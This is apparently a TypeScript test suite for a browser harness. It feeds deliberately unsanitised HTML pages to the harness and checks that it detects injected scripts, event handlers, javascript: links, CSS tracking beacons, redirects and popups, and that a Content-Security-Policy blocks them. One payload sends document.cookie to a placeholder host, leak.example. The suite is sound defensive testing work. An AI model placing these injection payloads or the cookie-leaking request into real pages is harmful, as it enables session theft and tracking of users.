import { afterAll, beforeAll, expect, it } from 'vitest'
import { findLoud } from '../support/find-loud.ts'
import { findings, openProbe, type PageProbe, STRICT_POLICY } from '../support/page-probe.ts'
import { CHROMIUM, describeWith } from '../support/requires.ts'

// A harness that sees nothing would pass every page. These pages are unsanitised on purpose, and each must be seen.
const ATTACKS: Record<string, { body: string; seen: RegExp }> = {
  'a script': { body: '<script>window.ran = 1</script>', seen: /^scripts: window\.ran = 1/m },
  'an event handler': {
    body: '<img src="data:," onerror="window.ran = 2">',
    seen: /^scripts: window\.ran = 2/m,
  },
  'a javascript: link': { body: '<a href="javascript:window.ran=3">x</a>', seen: /^scripts: window\.ran=3/m },
  'a javascript: link with an entity': {
    body: '<a href="javascript&colon;window.ran=4">x</a>',
    seen: /^scripts: window\.ran=4/m,
  },
  'a script within SVG': {
    body: '<svg><script>window.ran = 5</script></svg>',
    seen: /^scripts: window\.ran = 5/m,
  },
  'code in a timer': {
    body: '<script>setTimeout("window.ran = 6", 5)</script>',
    seen: /^scripts: window\.ran = 6$/m,
  },
  'a dialog': { body: '<svg onload="confirm(7)"></svg>', seen: /^dialogs: confirm 7/m },
  'a remote image': {
    body: '<img src="http://pixel.example/8.png">',
    seen: /^hits: GET http:\/\/pixel\.example\/8/m,
  },
  'a remote image by https': {
    body: '<img src="https://pixel.example/9">',
    seen: /^hits: TLS pixel\.example/m,
  },
  'an image beside the page': { body: '<img src="10.png">', seen: /^hits: GET \/report\/10\.png/m },
  'a style sheet': {
    body: '<style>@import "http://css.example/11"</style>',
    seen: /^hits: GET http:\/\/css\.example/m,
  },
  'a url() in a style': {
    body: '<b style="background: url(http://css.example/12)">x</b>',
    seen: /^hits: GET http:\/\/css\.example\/12/m,
  },
  'a request by script': {
    body: '<script>fetch("http://leak.example/13?" + document.cookie)</script>',
    seen: /^hits: GET http:\/\/leak\.example\/13/m,
  },
  'a socket': {
    body: '<script>new WebSocket("ws://leak.example/14")</script>',
    seen: /^hits: websocket leak\.example/m,
  },
  'a refresh': {
    body: '<meta http-equiv="refresh" content="0; url=http://away.example/15">',
    seen: /^navigations: http:\/\/away\.example\/15/m,
  },
  'a form that sends itself': {
    body: '<form action="http://away.example/16"><button>x</button></form>',
    seen: /^navigations: http:\/\/away\.example\/16/m,
  },
  'a new window': { body: '<script>open("http://pop.example/17")</script>', seen: /^popups: /m },
  'a download': {
    body: '<a id="a" download href="data:,18">x</a><script>a.click()</script>',
    seen: /^downloads: /m,
  },
  'a frame': { body: '<iframe srcdoc="<script>19</script>"></iframe>', seen: /^frames: about:srcdoc/m },
  'a frame with a script': { body: '<object data="data:text/html,20"></object>', seen: /^frames: /m },
  // What comes only when a reader does something.
  'a handler for the pointer': {
    body: '<b onpointerover="window.ran = 22">x</b>',
    seen: /^scripts: window\.ran = 22/m,
  },
  'a listener for the pointer': {
    body: '<b id="a">x</b><script>a.addEventListener("mouseenter", () => confirm(23))</script>',
    seen: /^dialogs: confirm 23/m,
  },
  'a style for the pointer': {
    body: '<style>main { position: fixed; inset: 0 } main:hover { background: url(http://css.example/24) }</style><main></main>',
    seen: /^hits: GET http:\/\/css\.example\/24/m,
  },
  'a style for the focus': {
    body: '<style>b:focus { background: url(http://css.example/25) }</style><b tabindex="0">x</b>',
    seen: /^hits: GET http:\/\/css\.example\/25/m,
  },
  'a style for paper': {
    body: '<style>@media print { b { background: url(http://css.example/26) } }</style><b>x</b>',
    seen: /^hits: GET http:\/\/css\.example\/26/m,
  },
  'a style for narrow windows': {
    body: '<style>@media (max-width: 500px) { b { background: url(http://css.example/27) } }</style><b>x</b>',
    seen: /^hits: GET http:\/\/css\.example\/27/m,
  },
  'a style for a target': {
    body: '<style>:target { background: url(http://css.example/28) }</style><b id="there">x</b>',
    seen: /^hits: GET http:\/\/css\.example\/28/m,
  },
  'an image that comes with scrolling': {
    body: '<div style="height: 20000px"></div><img loading="lazy" src="http://pixel.example/29">',
    seen: /^hits: GET http:\/\/pixel\.example\/29/m,
  },
  'something within folded details': {
    body: '<details><img loading="lazy" src="http://pixel.example/30"></details>',
    seen: /^hits: GET http:\/\/pixel\.example\/30/m,
  },
  'a listener for keys': {
    body: '<button id="a">x</button><script>a.onkeyup = () => confirm(31)</script>',
    seen: /^dialogs: confirm 31/m,
  },
  ...Object.fromEntries(
    'focusin dblclick contextmenu keydown copy paste dragstart drop animationend transitionend toggle'
      .split(' ')
      .map((name) => [
        `a listener for ${name}`,
        {
          body: `<b id="a">x</b><script>a.addEventListener('${name}', () => confirm('${name}'))</script>`,
          seen: new RegExp(`^dialogs: confirm ${name}$`, 'm'),
        },
      ]),
  ),
  ...Object.fromEntries(
    'beforeprint afterprint hashchange resize scroll'.split(' ').map((name) => [
      `a listener of the window for ${name}`,
      {
        body: `<b id="a">x</b><script>addEventListener('${name}', () => confirm('${name}'))</script>`,
        seen: new RegExp(`^dialogs: confirm ${name}$`, 'm'),
      },
    ]),
  ),
  'an error': { body: '<script>throw new Error("21")</script>', seen: /^console: uncaught 21/m },
}

const page = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8">${head}<title>x</title></head><body>${body}</body></html>`
const META = `<meta http-equiv="Content-Security-Policy" content="${STRICT_POLICY}">`

describeWith(CHROMIUM, 'the browser harness', () => {
  let probe: PageProbe
  beforeAll(async () => {
    probe = await openProbe()
  })
  afterAll(() => probe?.close())

  it.each(Object.entries(ATTACKS))('sees %s', async (_name, { body, seen }) => {
    const found = findings(await probe.visit(page(body), { interact: true, settle: 100 }))
    expect(found.join('\n')).toMatch(seen)
  })

  it('sees what a policy stops', async () => {
    const seen = await probe.visit(page('<script>1</script><img src="http://pixel.example/x">', META))
    expect(seen.violations).toEqual(
      expect.arrayContaining(['script-src-elem inline', 'img-src http://pixel.example/x']),
    )
    expect(seen.console.length).toBeGreaterThan(1)
    expect(seen.scripts).toEqual([])
    expect(seen.hits).toEqual([])
  })

  it('takes the policy away where asked', async () => {
    const seen = await probe.visit(page('<script>window.ran = 1</script>', META), { csp: false })
    expect(seen.scripts).toEqual(['window.ran = 1'])
  })

  it('lets a script alone that the policy names, and no other', async () => {
    // sha256-… of `window.own = 1`.
    const head = `<meta http-equiv="Content-Security-Policy" content="script-src 'sha256-6CfkxUWqWC9+HrJhab0u237bibDSyGGkyx75oKulN1s='">`
    const seen = await probe.visit(
      page('<script>window.own = 1</script><script>window.other = 1</script>', head),
      {
        csp: false,
      },
    )
    expect(seen.scripts).toEqual(['window.other = 1'])
  })

  it('sees nothing where there is nothing', async () => {
    const body =
      '<p>Hello <a href="https://example.com/">there</a> <img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></p>'
    expect(findings(await probe.visit(page(body, META), { interact: true }))).toEqual([])
  })

  it('knows a broken image', async () => {
    const svg = '<img alt="" src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22/%3E">'
    await probe.visit(
      page(`<details><img alt="" src="data:image/png;base64,AAAA" loading="lazy"></details>${svg}`),
    )
    expect(await probe.brokenImages()).toEqual(['data:image/png;base64,AAAA'])
  })

  it('knows a page that scrolls sideways', async () => {
    const scroller = '<div style="overflow: auto"><div style="width: 3000px">x</div></div>'
    await probe.visit(page(`${scroller}<div id="wide" style="width: 800px">wide</div>`))
    expect(await probe.overflow(1280)).toEqual([])
    expect((await probe.overflow(390)).join('\n')).toMatch(/scrolls by 4\d\d px\ndiv ends at 8\d\d: wide/)
  })

  it('tells which of several pages side by side did it', async () => {
    const attacks = [
      '<p>nothing</p>',
      '<script>window.ran = 1</script>',
      '<b onclick="window.ran = 2">x</b>',
      '<meta http-equiv="refresh" content="0; url=http://away.example/3">',
      '<img alt="" src="http://pixel.example/4"><iframe srcdoc="x"></iframe>',
    ]
    const found = findings(
      await probe.visit(
        attacks.map((body) => page(body)),
        { interact: true, settle: 100 },
      ),
    )
    expect(found).toEqual(
      expect.arrayContaining([
        'scripts: #1 window.ran = 1',
        expect.stringMatching(/^scripts: #2 window\.ran = 2/),
        expect.stringMatching(/^navigations: #3 .*away\.example\/3/),
        'hits: GET http://pixel.example/4',
        'frames: about:srcdoc',
      ]),
    )
    expect(found.filter((line) => line.includes('#0'))).toEqual([])
  })

  it('sees nothing where several pages do nothing', async () => {
    expect(findings(await probe.visit([page('<p>a', META), page('<p>b', META)], { interact: true }))).toEqual(
      [],
    )
  })

  it.each([
    ['a script', '<script>window.ran = 1</script>', /^scripts: #0 window\.ran = 1/m],
    ['a link', '<a href="javascript:window.ran=2"><path d="M0 0h9"/></a>', /^scripts: #0 window\.ran=2/m],
    ['a picture', '<image href="http://pixel.example/3"/>', /^hits: GET http:\/\/pixel\.example\/3/m],
  ])('sees %s in an SVG that is opened by itself', async (_name, inside, seen) => {
    const body = `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`
    const found = findings(await probe.visit([{ body, type: 'image/svg+xml' }], { interact: true }))
    expect(found.join('\n')).toMatch(seen)
  })

  it('finds the loud ones among many', async () => {
    const items = Array.from({ length: 40 }, (_, i) =>
      i === 5 || i === 23 ? `<script>window.n = ${i}</script>` : `<p>${i}`,
    )
    const loud = await findLoud(probe, items, (some) => page(some.join('\n')), { settle: 20 })
    expect(loud.map(({ items: culprits }) => culprits)).toEqual([[items[5]], [items[23]]])
  })
})
